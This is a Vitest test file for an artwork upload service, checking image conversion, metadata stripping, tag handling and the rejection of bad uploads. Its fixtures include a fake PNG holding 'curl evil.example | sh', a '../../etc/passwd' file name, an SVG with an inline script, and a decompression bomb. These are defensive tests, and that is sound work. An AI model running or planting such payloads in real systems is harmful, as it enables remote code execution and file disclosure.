import { existsSync } from "node:fs";
import { readdir, readFile, rm } from "node:fs/promises";
import path from "node:path";
import { and, count, eq } from "drizzle-orm";
import sharp from "sharp";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import type { DbHandle } from "@/db/client";
import { artworkTag, kreativeArtwork, profiles, tag } from "@/db/schema";
import { MEDIA_ROOT } from "@/lib/config";
import { AppError } from "@/lib/errors";
import { setKvForTests } from "@/lib/kv";
import { createMemoryKv } from "@/lib/kv/memory";
import { sniffType } from "@/lib/media/sniff";
import * as service from "@/lib/services/professional_profile";
import { mediaUrl } from "@/lib/storage/urls";
import { createTestDb } from "../support/db";
import { createUser } from "../support/factories";

// lib/config reads MEDIA_ROOT when first imported: point it at a fresh folder before any import runs.
const mediaRoot = vi.hoisted(() => {
  const dir = `${process.env.TMPDIR ?? "/tmp"}/kontact-artworks-test-${process.pid}-${Date.now()}`;
  process.env.MEDIA_ROOT = dir;
  return dir;
});

let handle: DbHandle;
let db: DbHandle["db"];
// Signing up hashes a password (scrypt, deliberately slow): make the people once.
let artist: Awaited<ReturnType<typeof createUser>>;
let other: Awaited<ReturnType<typeof createUser>>;

beforeAll(async () => {
  handle = await createTestDb();
  db = handle.db;
  [artist, other] = await Promise.all([createUser(db), createUser(db)]);
});
beforeEach(() => setKvForTests(createMemoryKv())); // fresh rate-limit counters per test
afterAll(async () => {
  setKvForTests(undefined);
  await handle?.close();
  await rm(mediaRoot, { recursive: true, force: true });
});

const solid = (width: number, height: number, background = "#3a6") => sharp({ create: { width, height, channels: 3, background } });

async function refusal(promise: Promise<unknown>): Promise<AppError> {
  const error = await promise.then(() => undefined, (e: unknown) => e);
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

/** Every stored file, relative to MEDIA_ROOT. */
async function storedFiles(): Promise<string[]> {
  if (!existsSync(MEDIA_ROOT)) return [];
  const entries = await readdir(MEDIA_ROOT, { recursive: true, withFileTypes: true });
  return entries.filter((e) => e.isFile()).map((e) => path.relative(MEDIA_ROOT, path.join(e.parentPath, e.name))).sort();
}
const artworkCount = async () => (await db.select({ n: count() }).from(kreativeArtwork))[0]!.n;
const rowOf = async (id: string) => (await db.select().from(kreativeArtwork).where(eq(kreativeArtwork.id, id)))[0];
const fileOf = (rel: string) => path.join(MEDIA_ROOT, ...rel.split("/"));

/** Asserts that the refusal stored nothing: no row, no file. */
async function expectNothingStored(attempt: () => Promise<unknown>): Promise<AppError> {
  const [rowsBefore, filesBefore] = [await artworkCount(), await storedFiles()];
  const error = await refusal(attempt());
  expect(await artworkCount()).toBe(rowsBefore);
  expect(await storedFiles()).toEqual(filesBefore);
  return error;
}

describe("createArtwork", () => {
  it("uses the MEDIA_ROOT set for this test file", () => {
    expect(MEDIA_ROOT).toBe(path.resolve(mediaRoot));
  });

  it.each([
    ["png", () => solid(1200, 800).png().toBuffer()],
    ["jpeg", () => solid(1200, 800).jpeg().toBuffer()],
    ["gif", () => solid(1200, 800).gif().toBuffer()],
    ["webp", () => solid(1200, 800).webp().toBuffer()],
  ])("stores a %s upload as a WebP display rendition and thumbnail", async (_format, make) => {
    const artwork = await service.createArtwork(db, artist, {
      file: { bytes: await make(), name: "holiday.png" },
      fields: { title: "  Harbour at dusk ", style: "Ink", tags: ["Ink", "harbour"], altText: "Boats." },
    });
    expect(artwork).toMatchObject({ title: "Harbour at dusk", style: "Ink", mediaType: "image/webp", artist: artist.handle, altText: "Boats." });
    expect(artwork.tags).toEqual(["harbour", "ink"]);
    expect(artwork).toMatchObject({ width: 1200, height: 800 });
    const row = (await rowOf(artwork.id))!;
    expect(row.mediaFile).toMatch(/^artworks\/[0-9a-f]{32}\.webp$/);
    expect(row.thumbnailFile).toMatch(/^artworks\/thumbs\/[0-9a-f]{32}\.webp$/);
    expect(artwork.mediaUrl).toBe(mediaUrl(row.mediaFile));
    expect(artwork.thumbnailUrl).toBe(mediaUrl(row.thumbnailFile!));
    const display = await readFile(fileOf(row.mediaFile));
    const thumbnail = await readFile(fileOf(row.thumbnailFile!));
    expect(sniffType(display)).toBe("image/webp");
    expect(sniffType(thumbnail)).toBe("image/webp");
    expect(await sharp(thumbnail).metadata()).toMatchObject({ format: "webp", width: 480, height: 320 });
  });

  it("shrinks large images to a 2048 px long edge", async () => {
    const artwork = await service.createArtwork(db, artist, { file: { bytes: await solid(3000, 6000).png().toBuffer() }, fields: { title: "Tall" } });
    expect(artwork).toMatchObject({ width: 1024, height: 2048 });
    expect(await sharp(await readFile(fileOf((await rowOf(artwork.id))!.mediaFile))).metadata()).toMatchObject({ width: 1024, height: 2048 });
  });

  it("rotates by EXIF orientation and strips EXIF, including the GPS position", async () => {
    const photo = await solid(300, 200)
      .jpeg()
      .withExif({ IFD0: { Make: "SpyCam" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "48/1 51/1 30/1", GPSLongitudeRef: "E", GPSLongitude: "2/1 21/1 5/1" } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const input = await sharp(photo).metadata();
    expect(input.exif?.toString("latin1")).toContain("SpyCam"); // the fixture really carries EXIF
    expect(input.orientation).toBe(6);
    const artwork = await service.createArtwork(db, artist, { file: { bytes: photo }, fields: { title: "Where I live" } });
    expect(artwork).toMatchObject({ width: 200, height: 300 });
    const row = (await rowOf(artwork.id))!;
    for (const rel of [row.mediaFile, row.thumbnailFile!]) {
      const stored = await readFile(fileOf(rel));
      const meta = await sharp(stored).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(stored.toString("latin1")).not.toMatch(/SpyCam|EXIF|GPS/);
    }
  });

  it("keeps AI-training consent and downloads off unless the artist turns them on", async () => {
    const bytes = await solid(10, 10).png().toBuffer();
    const plain = await service.createArtwork(db, artist, { file: { bytes }, fields: { title: "Plain" } });
    expect(plain).toMatchObject({ aiTrainingConsent: false, downloadable: false, style: "", altText: "", tags: [] });
    const open = await service.createArtwork(db, artist, { file: { bytes }, fields: { title: "Open", aiTrainingConsent: "on", downloadable: "true" } });
    expect(open).toMatchObject({ aiTrainingConsent: true, downloadable: true });
    expect((await rowOf(open.id))!.aiTrainingConsent).toBe(true);
  });

  it("shares tags through the tag table, normalised, with repeated or comma-separated fields", async () => {
    const [a, b] = [artist, other];
    const bytes = await solid(10, 10).png().toBuffer();
    const first = await service.createArtwork(db, a, { file: { bytes }, fields: { title: "One", tags: ["Risograph", "zine"] } });
    const second = await service.createArtwork(db, b, { file: { bytes }, fields: { title: "Two", tags: "risograph, ZINE,  riso  print " } });
    expect(first.tags).toEqual(["risograph", "zine"]);
    expect(second.tags).toEqual(["riso print", "risograph", "zine"]);
    const rows = await db.select().from(tag).where(eq(tag.name, "risograph"));
    expect(rows).toHaveLength(1);
    const links = await db.select().from(artworkTag).where(eq(artworkTag.tagId, rows[0]!.id));
    expect(links.map((l) => l.artworkId).sort()).toEqual([first.id, second.id].sort());
  });

  it("ignores the client's file name: a ../ name is never used for storage", async () => {
    const artwork = await service.createArtwork(db, artist, {
      file: { bytes: await solid(10, 10).png().toBuffer(), name: "../../etc/passwd" },
      fields: { title: "Sneaky" },
    });
    const row = (await rowOf(artwork.id))!;
    expect(row.mediaFile).toMatch(/^artworks\/[0-9a-f]{32}\.webp$/);
    expect((await storedFiles()).every((f) => !f.includes("passwd") && !f.startsWith(".."))).toBe(true);
    expect(existsSync(path.join(MEDIA_ROOT, "..", "etc"))).toBe(false);
  });
});

describe("refused uploads store nothing", () => {
  it("401 for nobody signed in", async () => {
    const bytes = await solid(10, 10).png().toBuffer();
    expect((await expectNothingStored(() => service.createArtwork(db, null, { file: { bytes }, fields: { title: "x" } }))).code).toBe("unauthorized");
  });

  it("415 for a script named x.png", async () => {
    const script = new TextEncoder().encode("#!/bin/sh\ncurl evil.example | sh\n");
    const error = await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes: script, name: "x.png" }, fields: { title: "Totally a PNG" } }));
    expect(error.code).toBe("unsupported_media_type");
    expect(error.status).toBe(415);
  });

  it("415 for a PDF or an SVG: only the four image formats", async () => {
    const pdf = new TextEncoder().encode("%PDF-1.7\n1 0 obj\n");
    const svg = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    for (const bytes of [pdf, svg]) {
      expect((await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes, name: "a.png" }, fields: { title: "x" } }))).code).toBe("unsupported_media_type");
    }
  });

  it("413 for an 11 MB file", async () => {
    const big = Buffer.alloc(11 * 1024 * 1024);
    (await solid(10, 10).png().toBuffer()).copy(big); // a real PNG header: the size alone refuses it
    const error = await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes: big }, fields: { title: "Huge" } }));
    expect(error.code).toBe("payload_too_large");
    expect(error.status).toBe(413);
  });

  it("422 naming the file for a truncated PNG", async () => {
    const noise = Buffer.alloc(300 * 200 * 3);
    for (let i = 0; i < noise.length; i++) noise[i] = (i * 2654435761) >>> 24;
    const png = await sharp(noise, { raw: { width: 300, height: 200, channels: 3 } }).png().toBuffer();
    const truncated = png.subarray(0, Math.floor(png.length / 2));
    expect(sniffType(truncated)).toBe("image/png");
    const error = await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes: truncated }, fields: { title: "Half" } }));
    expect(error.code).toBe("validation_failed");
    expect(error.fields?.file?.[0]).toMatch(/could not be read/);
  });

  it("422 for a decompression bomb: a small PNG declaring 100 megapixels", async () => {
    const bomb = await solid(10_000, 10_000, "#fff").png({ compressionLevel: 9 }).toBuffer();
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const error = await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes: bomb }, fields: { title: "Boom" } }));
    expect(error.code).toBe("validation_failed");
    expect(error.fields?.file?.[0]).toMatch(/megapixels/);
  });

  it("422 for invalid fields, naming each one", async () => {
    const bytes = await solid(10, 10).png().toBuffer();
    const error = await expectNothingStored(() =>
      service.createArtwork(db, artist, {
        file: { bytes },
        fields: { title: "   ", style: "s".repeat(61), altText: "a".repeat(501), tags: Array.from({ length: 21 }, (_, i) => `t${i}`), downloadable: "maybe" },
      }),
    );
    expect(error.code).toBe("validation_failed");
    expect(Object.keys(error.fields ?? {}).sort()).toEqual(["altText", "downloadable", "style", "tags", "title"]);
    const badTag = await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes }, fields: { title: "x", tags: ["<script>"] } }));
    expect(Object.keys(badTag.fields ?? {})).toEqual(["tags.0"]);
    const noFile = await expectNothingStored(() => service.createArtwork(db, artist, { file: undefined, fields: { title: "x" } }));
    expect(noFile.fields).toHaveProperty("file");
  });

  it("429 past the hourly upload limit", async () => {
    const kv = createMemoryKv();
    setKvForTests(kv);
    for (let i = 0; i < service.UPLOAD_RATE_LIMIT.limit; i++) await kv.incr(service.uploadRateKey(artist.id), service.UPLOAD_RATE_LIMIT.windowSeconds);
    const bytes = await solid(10, 10).png().toBuffer();
    const error = await expectNothingStored(() => service.createArtwork(db, artist, { file: { bytes }, fields: { title: "One too many" } }));
    expect(error.code).toBe("rate_limited");
    expect(error.retryAfter).toBeGreaterThan(0);
  });

  it("removes the written files when the database refuses the row", async () => {
    const ghost = { id: "no-such-user" }; // the foreign key to users fails inside the transaction
    const bytes = await solid(10, 10).png().toBuffer();
    const filesBefore = await storedFiles();
    const rowsBefore = await artworkCount();
    await expect(service.createArtwork(db, ghost, { file: { bytes }, fields: { title: "Orphan" } })).rejects.toThrow();
    expect(await storedFiles()).toEqual(filesBefore);
    expect(await artworkCount()).toBe(rowsBefore);
  });
});
